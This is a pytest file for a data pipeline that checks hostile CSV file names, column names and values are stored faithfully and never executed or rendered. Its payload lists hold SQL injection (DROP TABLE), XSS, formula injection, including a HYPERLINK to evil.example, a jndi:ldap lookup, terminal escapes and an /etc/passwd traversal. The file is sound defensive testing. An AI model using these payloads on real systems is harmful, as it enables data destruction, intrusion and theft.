"""A delivery that means harm: in the names of files and columns, and in values. It is data, and nothing else."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
from contextlib import redirect_stderr, redirect_stdout
from typing import TYPE_CHECKING

import pyarrow.parquet as pq
import pytest

from pipelines.cli import main
from pipelines.commands.options import answer
from pipelines.commands.run import render_summary
from tests.pipelines.shop import TONIGHT, do_night
from warehouse.connection import open_published
from warehouse.visible import visible, visible_json
from warehouse.workspace import Workspace

if TYPE_CHECKING:
    from pathlib import Path

    from pipelines.summary import RunSummary

ESCAPE, TURN = "\x1b", "\u202e"
PAYLOADS = (
    "Robert'); DROP TABLE landing.source_record; --",
    'k" from raw_row; DROP TABLE golden.customer; --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    f"{ESCAPE}]0;owned\x07{ESCAPE}[2J{ESCAPE}[31mred",
    f"invoice{TURN}gpj.exe",
    "{{7*7}} ${jndi:ldap://evil.example} %s %n {0}",
    "../../../../etc/passwd",
    "__proto__",
    "\x9b31m",
    "NULL",
)
FILES = (
    "we[i]rd*?.csv",
    "'; DROP TABLE landing.file; --.csv",
    "<img src=x onerror=alert(2)>.csv",
    f"{ESCAPE}[2Jclear.csv",
    f"turned{TURN}vsc.csv",
    "two\nlines.csv",
    "[red]markup {{7*7}}.csv",
    '"quoted".csv',
    *([os.fsdecode(b"no\xffutf8.csv")] if sys.platform == "linux" else []),
)
COLUMNS = (
    "id",
    "name",
    "email",
    'note"; DROP TABLE landing.source_record; --',
    "__proto__",
    "constructor",
    "<b>bold</b>",
    f"{ESCAPE}[31m",
    "select",
    "_file",
    "c0",
    "{{7*7}}",
    "a'b",
)
SETTINGS = """\
version: 1
sources:
  hostile:
    holds: case
    files: "exports/*.csv"
    format: csv
    key: id
    expect: {min_rows: 0}
    fields:
      full_name: name
      email: email
      extra.note: 'note"; DROP TABLE landing.source_record; --'
      extra.sql: {sql: 'upper("__proto__")'}
    activity: {subject: "<b>bold</b>", at: select}
"""
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def row(key: int, payload: str, at: str = "2026-01-05") -> list[str]:
    return [str(key), "Ann Payload", f"ann{key}@mail.example", *[payload] * 5, at, *[payload] * 4]


def write(workspace: Path) -> None:
    exports = workspace / "exports"
    exports.mkdir(parents=True)
    (workspace / "joinedup.yaml").write_text(SETTINGS)
    key = 0
    for name in FILES:
        with (exports / name).open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, lineterminator="\n")
            writer.writerow(COLUMNS)
            for payload in PAYLOADS:
                key += 1
                writer.writerow(row(key, payload))
            key += 1
            writer.writerow(row(key, PAYLOADS[0], at=f"{ESCAPE}[2J<script>'; --"))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, RunSummary]:
    workspace = tmp_path_factory.mktemp("hostile") / "workspace"
    write(workspace)
    return workspace, do_night(Workspace(workspace), TONIGHT, checks=False)


def test_nothing_is_lost_and_nothing_executed(hostile: tuple[Path, RunSummary]) -> None:
    _, summary = hostile
    assert summary.published
    found = summary.records["hostile"]
    rows = len(FILES) * (len(PAYLOADS) + 1)
    assert (found["read"], found["new"], found["quarantined"]) == (rows, rows - len(FILES), len(FILES))
    assert summary.deliveries["hostile"]["files"] == len(FILES)


def test_values_are_published_as_they_were_delivered(hostile: tuple[Path, RunSummary]) -> None:
    workspace, _ = hostile
    current = Workspace(workspace).current
    con = open_published(current / "golden.duckdb")
    try:
        subjects = [subject for (subject,) in con.execute("SELECT subject FROM activity").fetchall()]
    finally:
        con.close()
    assert set(subjects) == set(PAYLOADS)
    column = pq.read_table(current / "parquet" / "activity.parquet").column("subject")
    assert sorted(map(str, column.to_pylist())) == sorted(subjects)


def test_the_page_shows_them_and_does_nothing(hostile: tuple[Path, RunSummary]) -> None:
    _, summary = hostile
    with open(summary.report, encoding="utf-8") as file:  # noqa: PTH123 - named by its text
        page = file.read()
    assert UNSEEN.findall(page) == []
    assert "<img" not in page
    assert "<script" not in page
    assert "<b>bold" not in page
    assert "&lt;img src=x onerror=alert(2)&gt;.csv" in page
    assert "\\x1b[2Jclear.csv" in page
    assert "{{7*7}}" in page


def said(*arguments: str) -> str:
    out = io.StringIO()
    with redirect_stdout(out), redirect_stderr(out), pytest.raises(SystemExit):
        main(list(arguments))
    return out.getvalue()


@pytest.mark.parametrize("as_json", [False, True])
def test_a_terminal_gets_no_command(
    hostile: tuple[Path, RunSummary], capsys: pytest.CaptureFixture[str], as_json: bool
) -> None:
    workspace, summary = hostile
    answer(summary.document(), lambda: render_summary(summary), as_json=as_json)
    json_option = ["--json"] * as_json
    texts = [
        capsys.readouterr().out,
        *(said("show", f"hostile:{key}", "-w", str(workspace), *json_option) for key in range(1, len(PAYLOADS) + 1)),
        said("check", "-w", str(workspace), *json_option),
    ]
    assert [UNSEEN.findall(text) for text in texts] == [[]] * len(texts)
    if as_json:
        shown = [json.loads(text) for text in texts]
        assert shown[7]["activity"][0]["subject"] == PAYLOADS[6]


def test_a_column_that_is_missing_is_told_without_a_command(tmp_path: Path) -> None:
    write(tmp_path / "workspace")
    settings = tmp_path / "workspace" / "joinedup.yaml"
    settings.write_text(settings.read_text().replace("email: email", "email: e-mail"))
    told = said("check", "-w", str(tmp_path / "workspace"))
    assert "did you mean 'email'?" in told
    assert UNSEEN.findall(told) == []


def test_ten_thousand_columns_are_refused(tmp_path: Path) -> None:
    write(tmp_path / "workspace")
    wide = ",".join(f"c{place}" for place in range(10_000))
    (tmp_path / "workspace" / "exports" / "wide.csv").write_text(f"{wide}\n{wide}\n")
    (tmp_path / "workspace" / "joinedup.yaml").write_text(SETTINGS.replace("*.csv", "wide.csv"))
    assert "it has 10000 columns" in said("check", "-w", str(tmp_path / "workspace")).replace(",", "")


def test_what_is_not_seen_is_found_by_its_escape() -> None:
    text = "".join(PAYLOADS)
    assert UNSEEN.search(text)
    assert UNSEEN.search(visible(text)) is None
    document = json.dumps(text, ensure_ascii=False)
    assert json.loads(visible_json(document)) == text
    assert UNSEEN.search(visible_json(document)) is None
    assert visible("Zoë\tĄnna\n") == "Zoë\tĄnna\n"
